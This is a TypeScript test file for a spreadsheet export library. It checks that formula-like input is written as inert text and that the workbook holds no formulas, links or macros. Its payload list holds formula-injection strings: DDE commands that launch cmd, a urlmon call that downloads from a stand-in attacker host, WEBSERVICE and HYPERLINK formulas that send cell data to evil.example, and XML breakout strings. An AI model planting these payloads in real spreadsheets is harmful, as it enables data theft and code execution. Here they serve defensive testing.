import { readXlsx } from 'hucre/xlsx'
import { expect, test } from 'vitest'
import { inflateMember, readZipDirectory } from '../files/zip-directory.ts'
import { readWorkbook, writeWorkbook } from './workbook.ts'

/** What people have typed into fields to make a spreadsheet run something, and what only looks like it. */
const PAYLOADS = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|'/C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "+cmd|'/C calc'!A0",
  "-cmd|'/C calc'!A0",
  "@SUM(1+9)*cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=IMPORTDATA("http://evil.example/")',
  '=IMPORTHTML("http://evil.example/","table",1)',
  '=IMPORTRANGE("https://evil.example/","A1:B2")',
  '=IMAGE("http://evil.example/x.png")',
  '=DDE("cmd";"/C calc";"A0")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=INDIRECT("A1")',
  '=EXEC("calc")',
  '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example/x","x",0,0)',
  '=REGISTER.ID("Kernel32","WinExec")',
  '=FORMULATEXT(A1)',
  '=LAMBDA(x,x+1)(1)',
  '=LET(x,1,x)',
  '={1,2,3}',
  '{=SUM(A1:A2)}',
  '=A1',
  '=$A$1',
  "='填表说明'!A1",
  "='[别的表.xlsx]Sheet1'!A1",
  "='http://evil.example/[x.xlsx]S'!A1",
  '=-1',
  '=+1',
  '+1',
  '+1+1',
  '-1',
  '-2+3',
  '-1.5',
  '@A1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\t=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  "'=1+1",
  '"\n=1+1',
  ';=1+1',
  ',=1+1',
  '|calc',
  '%0A-1',
  '</t></is></c><c t="str"><f>1+1</f>',
  '<f>1+1</f>',
  '&#61;1+1',
  '&equals;1+1',
  ']]><f>1+1</f>',
  '_x003D_1+1',
  '1e5',
  '00123',
  '13800000000123456',
  '2026-06-30',
  'TRUE',
  '#REF!',
]

test('what looks like a formula is written as text, and comes back as it was typed', async () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  const rows = PAYLOADS.map((payload) => [payload, { text: payload, fill: 'error' as const, note: payload }])
  const bytes = await writeWorkbook([
    { name: '台账', columns: [{ title: '=1+1' }, { title: '文字' }], rows, notes: [['=1+1', '@SUM(A1)']] },
  ])
  const { sheets } = await readXlsx(bytes, { readStyles: true })
  const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])])
  expect(cells.filter((cell) => cell.formula !== undefined || cell.type === 'formula')).toEqual([])
  const [titles, ...written] = sheets[0]?.rows ?? []
  expect(titles?.[0]).toBe('=1+1')
  expect(written.map((row) => row.map((value) => typeof value))).toEqual(
    PAYLOADS.map(() => ['string', 'string']),
  )
  const back = await readWorkbook(bytes)
  const texts = back.ok ? (back.sheets[0]?.rows.slice(1) ?? []) : []
  // Line ends and blanks before the text belong to it.
  expect(texts.map((row) => row[0])).toEqual(PAYLOADS)
})

test('no part of the file holds a formula, a link or an outside source', async () => {
  const rows = PAYLOADS.map((payload) => [payload])
  const bytes = await writeWorkbook([
    { name: '台账', columns: [{ title: '文字', list: PAYLOADS.slice(0, 5) }], rows },
  ])
  const directory = readZipDirectory(bytes)
  const members = directory.ok ? directory.members : []
  expect(
    members.map(({ name }) => name).filter((name) => /external|connections|vba|macro|queryTable/i.test(name)),
  ).toEqual([])
  const sheets = members.filter(({ name }) => /worksheets\/sheet\d+\.xml$/.test(name))
  for (const member of sheets) {
    const xml = new TextDecoder().decode(inflateMember(bytes, member) ?? new Uint8Array())
    expect(xml).not.toMatch(/<f[ >]|<hyperlink|<oleObject|<ddeLink/)
  }
})
